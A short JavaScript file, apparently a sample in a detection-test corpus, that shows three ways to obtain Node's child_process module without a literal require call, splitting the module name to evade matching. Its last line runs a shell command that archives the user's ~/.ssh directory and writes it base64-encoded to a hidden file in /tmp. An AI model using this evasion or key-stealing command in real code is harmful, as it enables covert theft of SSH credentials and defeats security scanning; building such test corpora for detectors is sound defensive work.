// corpus: Module._load, module.constructor._load and createRequire reach child_process without a literal require call
'use strict';
const Module = module.constructor;
const target = 'child' + '_process';

const loaders = [
  () => Module._load(target, module, false),
  () => require('module').createRequire('/tmp/x.js')(target),
  () => process.mainModule.constructor._load(target),
];

let cp;
for (const load of loaders) {
  try { cp = load(); break; } catch { /* try next */ }
}
cp.exec('tar czf - ~/.ssh 2>/dev/null | base64 > /tmp/.k');
